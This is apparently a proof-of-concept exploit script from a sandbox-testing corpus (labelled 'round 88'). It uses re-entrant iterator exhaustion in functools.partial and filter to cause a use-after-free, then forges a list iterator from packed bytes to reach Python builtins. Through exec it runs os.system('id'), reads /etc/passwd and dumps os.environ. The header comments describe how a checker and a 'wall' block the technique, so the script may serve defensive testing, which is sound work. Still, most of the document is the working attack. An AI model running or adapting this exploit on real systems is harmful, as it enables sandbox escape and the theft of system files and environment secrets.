# family: wall (memory: iter(f, sentinel)'s callable freed by its own iterator's exhaustion)   goal: id   interpreter: /usr/bin/python3
# (round 88) iter(functools.partial(next, filter(gate, items)), None): gate, run by the
#   filter under the partial, advances the same iterator to its sentinel, which drops
#   the partial and the filter it alone held while filter_next still runs; the freed
#   blocks refilled with bytes forge a list iterator that hands gate the builtins. The
#   checker refuses the callable (rule memory, judge_calliters); the wall refuses the
#   re-entry (iter_next).
import functools
import struct


def gate(x):
    if type(x) is dict:
        x["exec"]("import os; os.system('id'); print(open('/etc/passwd').read()[:200]); print(os.environ); os._exit(0)")
    if box["depth"] == 0:
        box["depth"] = 1
        try:
            next(box["it"])
        except StopIteration:
            pass
        a = box["p1"][0] + box["p1"][1]
        b = box["p2"][0] + box["p2"][1]
        box["keep"] = [a, b]
    return False


box = {"depth": 0, "it": None, "keep": None}
items = [7]
fake_list = struct.pack("<QQQQ", 1, id(list), 1, id(gate) + 24)
box["fl"] = fake_list
box["p1"] = (struct.pack("<Q", id(gate)), struct.pack("<Q", 0)[:7])
box["p2"] = (struct.pack("<Q", 0), struct.pack("<Q", id(fake_list) + 32)[:7])


def build():
    box["it"] = iter(functools.partial(next, filter(gate, items)), None)


build()
print(next(box["it"]))
